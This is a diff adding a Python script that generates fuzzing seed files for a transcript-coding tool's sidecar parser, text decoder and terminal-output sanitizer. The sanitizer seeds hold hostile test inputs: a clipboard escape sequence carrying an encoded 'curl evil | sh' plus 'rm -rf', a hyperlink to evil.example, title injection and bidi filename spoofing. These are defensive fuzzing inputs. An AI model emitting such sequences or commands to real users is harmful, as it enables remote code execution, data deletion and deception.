@@ -1,0 +1,175 @@
+#!/usr/bin/env python3
+"""Writes the seed corpora in fuzz/corpus/<target>/ (run from anywhere; rewrites them).
+
+Every seed is small (< 4 KB) and made by hand to reach one path of the code under test.
+The sidecar seeds carry the paragraph fingerprints of the fixed document in
+fuzz_targets/sidecar_parse.rs (TEXT), so attach() keeps, moves and detaches entries.
+"""
+import hashlib
+import json
+import os
+import shutil
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+# Must match TEXT in fuzz_targets/sidecar_parse.rs.
+TEXT = ("Wawancara Informan A\r\n\r\nPeneliti: halo, apa kabar?\nInforman A: baik.\n\n"
+        "[00:12:31] Informan A: patroli siber\n\ntiga\n\ntiga\n")
+
+
+def fp(t):
+    return hashlib.sha256(t.replace("\r\n", "\n").replace("\r", "\n").encode()).hexdigest()[:16]
+
+
+P = ["Wawancara Informan A", "Peneliti: halo, apa kabar?", "Informan A: baik.",
+     "[00:12:31] Informan A: patroli siber", "tiga", "tiga"]
+FP = [fp(p) for p in P]
+
+
+def entry(n, f, start=0, end=4, codes=(), memo=None):
+    e = {"paragraph": n, "fingerprint": f, "start": start, "end": end}
+    if codes:
+        e["codes"] = list(codes)
+    if memo is not None:
+        e["memo"] = memo
+    return e
+
+
+def sidecar(paragraphs, detached=None, memo=None, **over):
+    d = {"format": "tandai-sidecar", "version": 1, "document": "informan-a.txt",
+         "document_fingerprint": "sha256:" + "e4836ca630179b413c8be828b285b4c3f3c8cb5b8923a45547c5e96ef8bb0d9f",
+         "coder": "ana"}
+    if memo is not None:
+        d["memo"] = memo
+    d["paragraphs"] = paragraphs
+    if detached is not None:
+        d["detached"] = detached
+    d.update(over)
+    return json.dumps(d, indent=2, ensure_ascii=False).encode() + b"\n"
+
+
+def sidecar_seeds():
+    valid = sidecar(
+        [entry(1, FP[0], 0, 20, ["konteks"]),
+         entry(2, FP[1], 24, 50, ["salam", "b.kode", "salam"], memo="memo \"kutipan\"\nbaris"),
+         entry(4, FP[3], 70, 106, ["devito.involvement"])],
+        detached=[entry(9, "0011223344556677", 300, 320, ["x"])],
+        memo="catatan dokumen")
+    s = {
+        "valid.json": valid,
+        # Entries out of order and on the wrong numbers: they move by fingerprint, the
+        # "tiga" one is ambiguous (two paragraphs) and stays detached.
+        "moved_and_ambiguous.json": sidecar(
+            [entry(6, FP[2], codes=["b", "a"]), entry(1, FP[1], codes=["c"]),
+             entry(3, FP[4], codes=["d"]), entry(2, "ffffffffffffffff", codes=["e"])],
+            detached=[entry(0, FP[0], codes=["f"]), entry(5, FP[3], memo="m")]),
+        "empty_paragraphs.json": sidecar([]),
+        "docs_example.json": sidecar([entry(13, "78fc2c66c22262d4", 1235, 1472, ["devito.involvement"])]),
+        "truncated_in_string.json": valid[:150],
+        "truncated_in_entry.json": valid[:valid.index(b'"start"') + 10],
+        "truncated_after_key.json": b'{"format": "tandai-sidecar", "vers',
+        "empty_file.json": b"",
+        "bom.json": b"\xEF\xBB\xBF" + sidecar([]),
+        "nul_in_string.json": sidecar([]).replace(b"ana", b"a\x00a"),
+        "nul_bytes.json": b"\x00\x00\x00\x00",
+        "utf16le_json.json": "\ufeff".encode("utf-16-le") + sidecar([]).decode().encode("utf-16-le")[:600],
+        "invalid_utf8_in_string.json": sidecar([]).replace(b"informan-a.txt", b"informan-\xe9.txt"),
+        "duplicate_top_key.json": b'{"format":"tandai-sidecar","format":"tandai-sidecar","version":1}',
+        "duplicate_entry_key.json": sidecar([entry(1, FP[0])]).replace(b'"start": 0', b'"start": 0, "start": 1'),
+        "duplicate_paragraph.json": sidecar([entry(1, FP[0], codes=["a"]), entry(1, FP[0], codes=["b"])]),
+        "deep_nesting.json": b'{"format":"tandai-sidecar","version":1,"memo":' + b"[" * 300 + b"]" * 300 + b"}",
+        "deep_objects.json": b'{"a":' * 200 + b"1" + b"}" * 200,
+        "huge_numbers.json": sidecar([entry(18446744073709551615, FP[0], 0, 18446744073709551615)]),
+        "number_overflow.json": b'{"format":"tandai-sidecar","version":4294967296,"paragraphs":[{"paragraph":1e400,"start":-1,"end":18446744073709551616}]}',
+        "version_2.json": sidecar([], version=2),
+        "version_0_and_string.json": b'{"format":"tandai-sidecar","version":"1","paragraphs":[]}',
+        "unknown_field_and_bad_ranges.json": sidecar(
+            [entry(0, FP[0]), entry(2, FP[1], start=9, end=3)], extra=True),
+        "escapes.json": sidecar([entry(1, FP[0], codes=["CODE"], memo="\u0000 \U0001F600 \u202e")]).replace(
+            b"CODE", b"\\u00e9\\ud83d\\ude00\\t"),
+        "lone_surrogate.json": sidecar([entry(1, FP[0], codes=["CODE"])]).replace(b"CODE", b"\\ud800x"),
+    }
+    return s
+
+
+def decode_seeds():
+    turns = ("Peneliti: halo, apa kabar?\nInforman A: baik, terima kasih.\n"
+             "[00:12:31] Informan A: saya kenal dia dari aplikasi\n(12:31.5) P: ya\n"
+             "lanjut tanpa nama\n10:30 kami bertemu\nKata:lanjut tanpa spasi\n[99] Nama: x\n")
+    blocks = ("Wawancara Informan A\n\nPeneliti: halo\nInforman A: iya\n\n"
+              "Informan B: saya kenal dia\ndari aplikasi, lalu\nbertemu.\n\n\n  \t\nNama: \nbaris kedua\n")
+    cjk = "受访者：你好\n\n\u9ad8\u6a4b: はい 😀\u200d👍 e\u0301\n\n\u00a0\u2028\u3000\n\nakhir"
+    utf16 = "Peneliti: halo apa kabar\r\nInforman: baik 😀\r\n"
+    s = {
+        "blocks.txt": blocks.encode(),
+        "line_per_turn.txt": turns.encode(),
+        "utf8_bom.txt": b"\xEF\xBB\xBF" + turns.encode(),
+        "double_bom.txt": b"\xEF\xBB\xBF\xEF\xBB\xBFteks\n\nlagi",
+        "utf16le_bom.txt": b"\xFF\xFE" + utf16.encode("utf-16-le"),
+        "utf16be_bom.txt": b"\xFE\xFF" + utf16.encode("utf-16-be"),
+        "utf16le_no_bom.txt": utf16.encode("utf-16-le"),
+        "utf16be_no_bom.txt": utf16.encode("utf-16-be"),
+        "utf16_odd_length.txt": b"\xFF\xFE" + "ab".encode("utf-16-le") + b"c",
+        "utf16_lone_surrogate.txt": b"\xFF\xFE\x00\xD8a\x00",
+        "utf16_nul.txt": b"\xFE\xFF\x00a\x00\x00\x00b",
+        "latin1.txt": "Peneliti: café, señor\nInforman: olé\n".encode("latin-1"),
+        "crlf.txt": b"a\r\nb\r\n\r\nPeneliti: c\r\nInforman: d\r\n",
+        "lone_cr.txt": b"Peneliti: satu\rInforman: dua\r\rtiga\r",
+        "mixed_line_ends.txt": b"a\r\r\nb\n\rc\r\n\n\r\nd",
+        "nul_bytes.txt": b"Peneliti: halo\n\x00\x00binary\x00",
+        "nul_after_invalid.txt": b"ab\xff\x00cd",
+        "cjk_emoji_spaces.txt": cjk.encode(),
+        "whitespace_only.txt": "\n \t\n\u00a0\u2029\x0b\x0c\n".encode(),
+        "empty.txt": b"",
+        "speaker_edge.txt": ("  [00:00:01]   Nama Panjang Sekali Lima Kata: x\n"
+                             "[1:2:3:4] A: b\n[00:12] B:\n(\u00e9t\u00e9) C: d\n"
+                             "Ini kalimat yang sangat panjang sekali tanpa titik dua: bukan nama\n"
+                             ": kosong\n[x] D: e\n").encode(),
+    }
+    return s
+
+
+def sanitize_seeds():
+    ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
+    s = {
+        "osc0_title.txt": (9, f"judul {ESC}]0;pwned title{BEL} sesudah"),
+        "osc2_title_st.txt": (39, f"{ESC}]2;window{ST}teks biasa"),
+        "osc8_link.txt": (19, f"klik {ESC}]8;;https://evil.example/{ST}di sini{ESC}]8;;{ST} ya"),
+        "osc52_clipboard.txt": (79, f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}rm -rf"),
+        "dcs.txt": (9, f"{ESC}P1$r0m{ST}{ESC}P$qm{ST}x"),
+        "csi_queries.txt": (4, f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[21t{ESC}[?2026$p{ESC}[5n"),
+        "csi_colours_clear.txt": (39, f"{ESC}[31;1mmerah{ESC}[0m{ESC}[2J{ESC}[H{ESC}c"),
+        "c1_csi_osc.txt": (5, "\u009b6n \u009d0;t\u009c \u0090q\u009c \u0085nel"),
+        "raw_c1_bytes.txt": (7, b"\x9b6n \x9d0;t\x07 \xc2"),
+        "bidi_overrides.txt": (9, "admin\u202e\u2066txt.exe\u2069\u202c \u202a\u202b\u202d\u2067\u2068 \u061c\u200e\u200f"),
+        "zero_width.txt": (3, "a\u200bb\u200cc\u200dd\u2060e\u2061\u2062\u2063\u2064\ufeff\u180e\u2028\u2029f"),
+        "tabs.txt": (9, "a\tb\tc\t\td\n\tx\ty\r\n1234\t5"),
+        "cjk.txt": (5, "漢字漢字漢 受访者：你好。 ひらがな カタカナ 한국어"),
+        "emoji.txt": (4, "😀😀😀 👨\u200d👩\u200d👧 ❤\ufe0f 🇮🇩 e\u0301\u0301 x"),
+        "wide_narrow_width1.txt": (0, "漢a\t\u200b😀b\u0301c"),
+        "long_word_spaces.txt": (13, "satu dua tiga empat " + "x" * 40 + "   akhir   "),
+        "controls_all.txt": (59, "".join(chr(c) for c in range(0, 0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xa0))),
+        "line_ends.txt": (11, "a\r\nb\rc\nd\n\n\r\r\n"),
+        "empty_after_width.txt": (42, ""),
+    }
+    out = {}
+    for name, (w, body) in s.items():
+        out[name] = bytes([w]) + (body if isinstance(body, bytes) else body.encode())
+    return out
+
+
+def write(target, seeds):
+    d = os.path.join(HERE, "corpus", target)
+    shutil.rmtree(d, ignore_errors=True)
+    os.makedirs(d)
+    for name, data in seeds.items():
+        assert len(data) < 4096, (target, name, len(data))
+        with open(os.path.join(d, name), "wb") as f:
+            f.write(data)
+    print(f"{target}: {len(seeds)} seeds")
+
+
+if __name__ == "__main__":
+    write("sidecar_parse", sidecar_seeds())
+    write("decode_segment", decode_seeds())
+    write("sanitize", sanitize_seeds())
